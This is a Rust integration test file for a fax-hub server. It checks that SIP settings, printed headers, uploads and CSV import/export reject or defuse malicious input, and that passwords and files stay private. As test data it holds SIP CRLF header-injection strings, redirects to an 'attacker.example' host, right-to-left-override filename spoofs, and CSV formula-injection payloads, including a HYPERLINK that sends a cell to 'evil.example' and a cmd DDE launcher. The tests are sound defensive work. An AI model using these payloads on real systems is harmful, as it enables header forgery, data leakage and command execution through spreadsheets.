//! Issue 14, sections 4 and 6: values that reach SIP messages and printed pages, the SIP password's
//! destination and its keeping at rest, private files, uploads checked as the fax server reads them, CSV
//! cells that spreadsheets would run, and one JSON shape for every error.

use serde_json::{Value, json};
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::time::Duration;
use testkit::harness::{Api, FAST_CONFIG, NodeProc, SupervisorProc, tiny_tiff};

fn id(v: &Value, pointer: &str) -> String {
    v.pointer(pointer)
        .and_then(Value::as_str)
        .unwrap_or_else(|| panic!("no {pointer} in {v}"))
        .to_owned()
}

/// A fresh `faxhub serve` with `extra` configuration (and the fast test deadlines); the directory goes
/// with it.
async fn supervisor(extra: &str) -> (tempfile::TempDir, SupervisorProc, Api) {
    let dir = tempfile::tempdir().expect("dir");
    let sup =
        SupervisorProc::start(dir.path(), &format!("{extra}\n{FAST_CONFIG}")).expect("supervisor");
    let admin = sup.admin();
    (dir, sup, admin)
}

/// The body of an answer that must have `status` (`what` says which request it was).
async fn answer(
    request: impl std::future::Future<Output = anyhow::Result<testkit::harness::Reply>>,
    status: u16,
    what: &str,
) -> Value {
    request
        .await
        .expect(what)
        .expect_status(status)
        .unwrap_or_else(|e| panic!("{what}: {e}"))
}

/// A fax server registered (not running) in the default grouping, dialling +1.
async fn fax_server(admin: &Api, name: &str) -> String {
    let g = admin.default_grouping().await.expect("default grouping");
    let made = answer(
        admin.post(
            "/v1/fax-servers",
            json!({"name": name, "dial_prefixes": ["+1"], "groupings": [g]}),
        ),
        201,
        "create",
    )
    .await;
    id(&made, "/fax_server/id")
}

/// Asserts a 422 that names `field`.
fn refused(r: testkit::harness::Reply, field: &str, what: &str) {
    assert_eq!(r.status, 422, "{what}: {}", r.body);
    assert_eq!(r.body["error"]["field"], field, "{what}: {}", r.body);
    assert_eq!(
        r.body["error"]["code"], "invalid_field",
        "{what}: {}",
        r.body
    );
}

fn mode(p: &Path) -> u32 {
    std::fs::metadata(p)
        .unwrap_or_else(|e| panic!("{}: {e}", p.display()))
        .permissions()
        .mode()
        & 0o777
}

fn assert_private(dirs: &[PathBuf], files: &[PathBuf]) {
    for d in dirs {
        assert_eq!(mode(d), 0o700, "directory {}", d.display());
    }
    for f in files {
        assert_eq!(mode(f), 0o600, "file {}", f.display());
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sip_and_printed_settings_are_refused_outside_their_grammar() {
    let (_dir, _sup, admin) = supervisor("").await;
    let fs = fax_server(&admin, "fs").await;
    let path = format!("/v1/fax-servers/{fs}/settings");
    let base = json!({"sip": {"registrar": "sip.example.com", "user": "fax1", "password": "pw-123456", "transport": "udp"}});
    answer(
        admin.put(&path, base.clone()),
        200,
        "a valid account is taken",
    )
    .await;
    let cases = [
        (
            json!({"sip": {"user": "fax1\r\nVia: SIP/2.0/UDP evil"}}),
            "sip.user",
        ),
        (json!({"sip": {"user": "fax 1"}}), "sip.user"),
        (json!({"sip": {"user": "fax1@evil.example"}}), "sip.user"),
        (
            json!({"sip": {"auth_user": "fax1\", response=\"x"}}),
            "sip.auth_user",
        ),
        (json!({"sip": {"auth_user": "fax\u{0}1"}}), "sip.auth_user"),
        (
            json!({"sip": {"registrar": "sip.example.com\r\nX: y"}}),
            "sip.registrar",
        ),
        (
            json!({"sip": {"registrar": "sip.example.com:99999"}}),
            "sip.registrar",
        ),
        (json!({"sip": {"proxy": "proxy example"}}), "sip.proxy"),
        (json!({"station_id": "+1 555\t0100"}), "station_id"),
        (
            json!({"header_template": "ACME\u{1b}[2J {page}"}),
            "header_template",
        ),
        (
            json!({"header_template": "Bank \u{202E}gnp.exe"}),
            "header_template",
        ),
    ];
    for (patch, field) in cases {
        let r = admin.patch(&path, patch.clone()).await.expect("patch");
        refused(r, field, &patch.to_string());
    }
    let view = answer(admin.get(&path), 200, "read").await;
    assert_eq!(view["desired_version"], 1, "nothing refused was stored");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_new_registrar_or_proxy_discards_the_stored_sip_password() {
    let (_dir, _sup, admin) = supervisor("").await;
    let fs = fax_server(&admin, "fs").await;
    let path = format!("/v1/fax-servers/{fs}/settings");
    let password = |v: &Value| v["settings"]["sip"]["password"].clone();
    let put = answer(admin.put(&path, json!({"sip": {"registrar": "sip.example.com", "user": "fax1", "password": "pw-123456", "transport": "udp"}})), 200, "replace").await;
    assert_eq!(password(&put), json!({"set": true}));
    // Other changes keep it.
    let kept = answer(admin.patch(&path, json!({"channels": 2})), 200, "change").await;
    assert_eq!(password(&kept), json!({"set": true}), "{kept}");
    // Sending the digest elsewhere needs the password again.
    for moved in [
        json!({"sip": {"registrar": "attacker.example"}}),
        json!({"sip": {"proxy": "attacker.example:5060"}}),
    ] {
        answer(admin.patch(&path, json!({"sip": {"registrar": "sip.example.com", "proxy": null, "password": "pw-123456"}})), 200, "change").await;
        let v = answer(admin.patch(&path, moved.clone()), 200, "change").await;
        assert_eq!(password(&v), json!({"set": false}), "{moved}: {v}");
    }
    // Given in the same request, it is kept with the new host.
    let v = answer(
        admin.patch(
            &path,
            json!({"sip": {"registrar": "other.example", "password": "pw-654321"}}),
        ),
        200,
        "change",
    )
    .await;
    assert_eq!(password(&v), json!({"set": true}), "{v}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn supervisor_and_fax_server_keep_their_files_private_and_the_password_sealed() {
    let https = testkit::harness::free_port();
    let (_dir, sup, admin) = supervisor(&format!("https_listen = \"127.0.0.1:{https}\"")).await;
    let doc = answer(admin.upload(tiny_tiff()), 201, "upload").await;
    let sha = id(&doc, "/sha256");
    let data = sup.dir.join("data");
    assert_private(
        &[
            data.clone(),
            data.join("documents"),
            data.join("documents/tmp"),
            data.join(format!("documents/{}", &sha[..2])),
            data.join("tls"),
        ],
        &[
            data.join("faxhub.db"),
            data.join("faxhub.db-wal"),
            data.join("server.key"),
            data.join("tls/key.pem"),
            data.join(format!("documents/{}/{sha}", &sha[..2])),
        ],
    );

    let g = admin.default_grouping().await.expect("default grouping");
    let bin = PathBuf::from(env!("CARGO_BIN_EXE_faxhub-testnode"));
    let (mut node, fs) = NodeProc::start(&bin, &sup, "fs", &["+1"], &[&g], 2, json!({}))
        .await
        .expect("node");
    let path = format!("/v1/fax-servers/{fs}/settings");
    answer(admin.put(&path, json!({"channels": 2, "sip": {"registrar": "127.0.0.1:5060", "user": "fax1", "password": "s3cret-pass-1", "transport": "udp"}})), 200, "replace").await;
    let state = node.state_dir.join("state");
    let kept = state.join("settings.json");
    let wait_applied = || async {
        for _ in 0..100 {
            let v = answer(admin.get(&path), 200, "read").await;
            if v["applied_version"] == 1 && kept.exists() {
                return;
            }
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
        panic!("the settings were never applied");
    };
    wait_applied().await;
    let check_node = || {
        assert_private(
            &[state.clone(), state.join("documents")],
            &[
                state.join("credential"),
                state.join("journal.json"),
                state.join("journal.log"),
                state.join("secrets.key"),
                kept.clone(),
            ],
        );
        let text = std::fs::read_to_string(&kept).expect("settings.json");
        assert!(
            !text.contains("s3cret-pass-1"),
            "the password is sealed: {text}"
        );
        let v: Value = serde_json::from_str(&text).expect("json");
        assert!(
            v["settings"]["sip"]["password"]["sealed"].is_string(),
            "{v}"
        );
    };
    check_node();

    // A state directory an earlier version left open, with the password in the clear, is made private and
    // sealed at the next start.
    node.kill();
    let mut old: Value =
        serde_json::from_str(&std::fs::read_to_string(&kept).expect("kept")).expect("json");
    old["settings"]["sip"]["password"] = json!("s3cret-pass-1");
    std::fs::write(&kept, old.to_string()).expect("write");
    for (p, m) in [
        (&state, 0o755),
        (&kept, 0o644),
        (&state.join("credential"), 0o644),
    ] {
        std::fs::set_permissions(p, std::fs::Permissions::from_mode(m)).expect("chmod");
    }
    node.restart().expect("restart");
    let mut sealed = false;
    for _ in 0..100 {
        if std::fs::read_to_string(&kept).is_ok_and(|t| !t.contains("s3cret-pass-1")) {
            sealed = true;
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert!(sealed, "the kept password was sealed again");
    check_node();
    let v = answer(admin.get(&path), 200, "read").await;
    assert_eq!(
        (v["applied_version"].clone(), v["last_error"].clone()),
        (json!(1), Value::Null),
        "{v}"
    );
}

/// A PNG whose header declares `width` × `height` (the picture data is a real 1 × 1 image's).
fn png_declaring(width: u32, height: u32) -> Vec<u8> {
    let mut png = std::io::Cursor::new(Vec::new());
    image::DynamicImage::new_luma8(1, 1)
        .write_to(&mut png, image::ImageFormat::Png)
        .expect("png");
    let mut png = png.into_inner();
    // IHDR's data starts at byte 16: width, height, then its CRC over type and data at byte 29.
    png[16..20].copy_from_slice(&width.to_be_bytes());
    png[20..24].copy_from_slice(&height.to_be_bytes());
    let crc = crc32(&png[12..29]);
    png[29..33].copy_from_slice(&crc.to_be_bytes());
    png
}

fn crc32(bytes: &[u8]) -> u32 {
    let mut crc = !0u32;
    for b in bytes {
        crc ^= u32::from(*b);
        for _ in 0..8 {
            crc = if crc & 1 != 0 {
                (crc >> 1) ^ 0xEDB8_8320
            } else {
                crc >> 1
            };
        }
    }
    !crc
}

/// `tiny_tiff` with directory entries' values changed.
fn tiff_with(changes: &[(u16, u32)]) -> Vec<u8> {
    let mut t = tiny_tiff();
    for (tag, value) in changes {
        let entry = (0..8)
            .map(|i| 10 + 12 * i)
            .find(|at| u16::from_le_bytes([t[*at], t[at + 1]]) == *tag)
            .expect("tag");
        t[entry + 8..entry + 12].copy_from_slice(&value.to_le_bytes());
    }
    t
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn uploads_are_checked_as_the_fax_server_reads_them() {
    let (_dir, _sup, admin) = supervisor("").await;
    let ok = answer(admin.upload(png_declaring(1, 1)), 201, "a real PNG").await;
    assert_eq!(
        (ok["media_type"].as_str(), ok["pages"].as_u64()),
        (Some("image/png"), Some(1))
    );
    let cases = [
        (
            "a PNG declaring 20000 x 20000 pixels",
            png_declaring(20_000, 20_000),
            "over the limit",
        ),
        ("a truncated PNG", png_declaring(1, 1)[..40].to_vec(), "PNG"),
        (
            "a TIFF strip past the end of the file",
            tiff_with(&[(273, 5000)]),
            "strip",
        ),
        (
            "a TIFF strip shorter than its rows",
            tiff_with(&[(256, 64)]),
            "strip",
        ),
        (
            "a TIFF in a compression the fax server cannot read",
            tiff_with(&[(259, 12345)]),
            "ompression",
        ),
        (
            "a TIFF page over the pixel limit",
            tiff_with(&[(256, 60_000), (257, 60_000)]),
            "over the limit",
        ),
        ("a TIFF missing strips", tiff_with(&[(257, 20)]), "strips"),
    ];
    for (what, bytes, says) in cases {
        let r = admin.upload(bytes).await.expect("upload");
        assert_eq!(r.status, 422, "{what}: {}", r.body);
        let message = r.body["error"]["message"].as_str().unwrap_or_default();
        assert!(message.contains(says), "{what}: {message}");
    }
    // Text is paginated as rendered: 100 lines of 200 characters wrap to 300 lines, 5 pages of 63.
    let text = format!("{}\n", "x".repeat(200)).repeat(100);
    let doc = answer(admin.upload(text.into_bytes()), 201, "upload").await;
    assert_eq!(doc["pages"], 5, "{doc}");
    // So max_pages_per_job holds for text too.
    fax_server(&admin, "fs").await;
    answer(
        admin.patch("/v1/settings", json!({"uploads": {"max_pages_per_job": 4}})),
        200,
        "change",
    )
    .await;
    let r = admin
        .post(
            "/v1/jobs",
            json!({"recipients": ["+15550100"], "documents": [id(&doc, "/sha256")]}),
        )
        .await
        .expect("submit");
    refused(r, "documents", "five pages of text over a limit of four");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn printed_job_fields_and_far_dates_are_refused() {
    let (_dir, _sup, admin) = supervisor("").await;
    fax_server(&admin, "fs").await;
    let doc = answer(admin.upload(tiny_tiff()), 201, "upload").await;
    let sha = id(&doc, "/sha256");
    let cases = [
        (json!({"header": "ACME\nForged line"}), "header"),
        (json!({"header": "ACME \u{1b}[8m hidden"}), "header"),
        (json!({"header": "Invoice \u{202E}fdp.exe"}), "header"),
        (json!({"header": "ACME\u{200B}"}), "header"),
        (json!({"tsi": "+1 555\r0100"}), "tsi"),
        (json!({"send_at": "2999-01-01T00:00:00Z"}), "send_at"),
        (
            json!({"retry_delay_secs": 9_223_372_036_854_775_u64}),
            "retry_delay_secs",
        ),
        (json!({"retry_delay_secs": 0}), "retry_delay_secs"),
    ];
    for (extra, field) in cases {
        let mut body = json!({"recipients": ["+15550100"], "documents": [sha]});
        for (k, v) in extra.as_object().expect("object") {
            body[k] = v.clone();
        }
        let r = admin.post("/v1/jobs", body).await.expect("submit");
        refused(r, field, &extra.to_string());
    }
    let soon = time::OffsetDateTime::now_utc() + time::Duration::days(30);
    let at = soon
        .format(&time::format_description::well_known::Rfc3339)
        .expect("format");
    answer(admin.post("/v1/jobs", json!({"recipients": ["+15550100"], "documents": [sha], "send_at": at, "header": "ACME Corp. – Invoices", "retry_delay_secs": 600})), 201, "a month ahead and a printable header are fine").await;
}

async fn csv_import(api: &Api, csv: String) -> Value {
    let r = api
        .http
        .post(format!("{}/v1/phonebook/import?format=csv", api.base))
        .bearer_auth(&api.token)
        .header("content-type", "text/csv")
        .body(csv)
        .send()
        .await
        .expect("import");
    assert!(r.status().is_success(), "import: {}", r.status());
    r.json().await.expect("report")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn csv_export_defuses_formulas_and_import_reports_every_bad_line() {
    let (_dir, _sup, admin) = supervisor("").await;
    let entry = json!({
        "name": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
        "company": "@SUM(1+1)*cmd|' /C calc'!A0",
        "fax_number": "+15550100001",
        "notes": "-2+3",
        "tags": ["+x"],
    });
    answer(admin.post("/v1/phonebook", entry.clone()), 201, "create").await;
    let export = admin
        .http
        .get(format!("{}/v1/phonebook/export?format=csv", admin.base))
        .bearer_auth(&admin.token)
        .send()
        .await
        .expect("export")
        .text()
        .await
        .expect("text");
    let row = export.lines().nth(1).expect("a row");
    // Every cell, quoted or not, starts with something a spreadsheet reads as text.
    let mut cells = Vec::new();
    let mut rest = row;
    while !rest.is_empty() {
        let cell = if let Some(q) = rest.strip_prefix('"') {
            let end = q
                .match_indices('"')
                .find(|(i, _)| q[i + 1..].starts_with(',') || i + 1 == q.len())
                .map(|(i, _)| i)
                .expect("closing quote");
            rest = q[end + 1..].strip_prefix(',').unwrap_or("");
            &q[..end]
        } else {
            let (c, r) = rest.split_once(',').unwrap_or((rest, ""));
            rest = r;
            c
        };
        cells.push(cell);
    }
    for cell in &cells {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "{cell:?} in {row:?}"
        );
    }
    assert!(row.contains("'+15550100001"), "{row}");
    // The export reads back to the same entry (a second copy of it).
    let report = csv_import(&admin, export.clone()).await;
    assert_eq!(
        (report["imported"].clone(), report["failed"].clone()),
        (json!(1), json!(0)),
        "{report}"
    );
    let back = answer(admin.get("/v1/phonebook"), 200, "read").await;
    let items = back["items"].as_array().expect("items");
    assert_eq!(items.len(), 2, "{back}");
    for item in items {
        for field in ["name", "company", "fax_number", "notes", "tags"] {
            assert_eq!(item[field], entry[field], "{field}");
        }
    }

    // A quote that is never closed (line 3), or closed with text after it (line 5), swallows no line.
    let csv = "name,fax_number,notes\n\
               Ann,+15550100011,ok\n\
               Bob,+15550100012,\"never closed\n\
               Cy,+15550100013,ok\n\
               Dan,+15550100014,\"closed\"too early\n\
               Eve,not a number,ok\n\
               Fay,+15550100016,\"two\nlines\"\n";
    let report = csv_import(&admin, csv.to_owned()).await;
    let lines: Vec<u64> = report["problems"]
        .as_array()
        .expect("problems")
        .iter()
        .filter_map(|p| p["line"].as_u64())
        .collect();
    assert_eq!(lines, [3, 5, 6], "{report}");
    assert_eq!(report["imported"], 3, "Ann, Cy and Fay: {report}");
    let names = answer(admin.get("/v1/phonebook?q=cy"), 200, "read").await;
    assert_eq!(
        names["items"][0]["notes"], "ok",
        "Cy's line was read on its own: {names}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_error_response_has_the_json_shape() {
    let (_dir, _sup, admin) = supervisor("").await;
    let fs = fax_server(&admin, "fs").await;
    let settings = format!("{}/v1/fax-servers/{fs}/settings", admin.base);
    let http = &admin.http;
    let auth = |r: reqwest::RequestBuilder| r.bearer_auth(&admin.token);
    let cases: Vec<(&str, reqwest::RequestBuilder, u16, &str, Option<&str>)> = vec![
        (
            "JSON that does not parse",
            auth(http.put(&settings))
                .header("content-type", "application/json")
                .body("{"),
            400,
            "bad_request",
            None,
        ),
        (
            "a field of the wrong type",
            auth(http.put(&settings)).json(&json!({"sip": {"transport": 5}})),
            422,
            "invalid_field",
            Some("sip.transport"),
        ),
        (
            "an unknown field",
            auth(http.put(&settings)).json(&json!({"colour": "red"})),
            422,
            "invalid_field",
            Some("colour"),
        ),
        (
            "no JSON content type",
            auth(http.put(&settings)).body("{}"),
            415,
            "unsupported_media_type",
            None,
        ),
        (
            // The server answers before reading the whole body and closes the connection: a client of
            // its own, so that the next request does not meet the closed connection.
            "a JSON body over the limit",
            auth(reqwest::Client::new().put(&settings))
                .header("content-type", "application/json")
                .body(vec![b' '; 3 << 20]),
            413,
            "too_large",
            None,
        ),
        (
            "a query that does not parse",
            auth(http.get(format!("{}/v1/jobs?limit=many", admin.base))),
            400,
            "bad_request",
            None,
        ),
        (
            "a query missing a field",
            auth(http.get(format!("{settings}/diff?from=1"))),
            400,
            "bad_request",
            Some("to"),
        ),
        (
            "a path that is not UTF-8",
            auth(http.get(format!("{}/v1/jobs/%FF", admin.base))),
            400,
            "bad_request",
            None,
        ),
        (
            "a method the route does not take",
            auth(http.delete(format!("{}/v1/jobs", admin.base))),
            405,
            "method_not_allowed",
            None,
        ),
        (
            "no route",
            auth(http.get(format!("{}/v1/nowhere", admin.base))),
            404,
            "not_found",
            None,
        ),
        (
            "no credentials",
            http.get(format!("{}/v1/jobs", admin.base)),
            401,
            "unauthorized",
            None,
        ),
    ];
    for (what, request, status, code, field) in cases {
        let resp = request.send().await.expect(what);
        assert_eq!(resp.status().as_u16(), status, "{what}");
        let allow = resp.headers().get("allow").cloned();
        let kind = resp.headers().get("content-type").cloned();
        let body: Value = serde_json::from_str(&resp.text().await.expect("body"))
            .unwrap_or_else(|e| panic!("{what}: the body is not JSON: {e}"));
        assert_eq!(
            kind.and_then(|v| v.to_str().ok().map(str::to_owned))
                .as_deref(),
            Some("application/json"),
            "{what}"
        );
        let e = &body["error"];
        assert_eq!(e["code"], code, "{what}: {body}");
        assert!(
            !e["message"].as_str().unwrap_or_default().is_empty(),
            "{what}: {body}"
        );
        assert!(
            !e["request_id"].as_str().unwrap_or_default().is_empty(),
            "{what}: {body}"
        );
        if let Some(field) = field {
            assert_eq!(e["field"], field, "{what}: {body}");
        }
        if status == 405 {
            assert!(allow.is_some(), "{what}: the Allow header is kept");
        }
    }
}

/// A two-page PostScript memo, as `sendfax` and print drivers send: a box on the first page, text on the
/// second.
const MEMO_PS: &str = "%!PS-Adobe-3.0\n%%Pages: 2\n<< /PageSize [595 842] >> setpagedevice\n\
    72 698 144 72 rectfill showpage\n\
    /Helvetica findfont 24 scalefont setfont 72 700 moveto (Second page) show showpage\n";

/// PostScript is converted to PDF with ghostscript at upload (so it is never faxed as its source text,
/// and fax servers need no ghostscript): the stored document is that PDF, with the program's pages. A
/// supervisor that cannot run ghostscript, or has it turned off, refuses PostScript with 415 saying so,
/// also when the upload is large enough to be spilled to disk.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn postscript_is_converted_to_pdf_or_refused_never_sent_as_text() {
    let (_dir, sup, admin) = supervisor("").await;
    let doc = answer(admin.upload(MEMO_PS.as_bytes().to_vec()), 201, "PostScript").await;
    assert_eq!(
        (doc["media_type"].as_str(), doc["pages"].as_u64()),
        (Some("application/pdf"), Some(2)),
        "{doc}"
    );
    let stored = admin
        .http
        .get(format!("{}/v1/documents/{}", sup.url, id(&doc, "/sha256")))
        .bearer_auth(&admin.token)
        .send()
        .await
        .expect("download")
        .bytes()
        .await
        .expect("bytes");
    assert!(
        stored.starts_with(b"%PDF-"),
        "the stored document is the PDF"
    );
    // Larger than what is checked in memory (256 KiB): a comment pads it.
    let mut big = MEMO_PS.to_owned();
    big.insert_str(
        big.find('\n').expect("line") + 1,
        &format!("%{}\n", "x".repeat(300_000)),
    );
    let doc = answer(admin.upload(big.into_bytes()), 201, "large PostScript").await;
    assert_eq!(doc["media_type"], "application/pdf", "{doc}");
    assert_eq!(doc["pages"], 2, "{doc}");

    for (config, says) in [
        ("ghostscript = \"\"", "does not convert PostScript"),
        (
            "ghostscript = \"/nonexistent/gs\"",
            "install the Debian package `ghostscript`",
        ),
    ] {
        let (_dir, _sup, admin) = supervisor(config).await;
        let r = admin
            .upload(MEMO_PS.as_bytes().to_vec())
            .await
            .expect("upload");
        assert_eq!(r.status, 415, "{config}: {}", r.body);
        let message = r.body["error"]["message"].as_str().unwrap_or_default();
        assert!(
            message.contains(says) && message.contains("PDF"),
            "{config}: {message}"
        );
    }
}
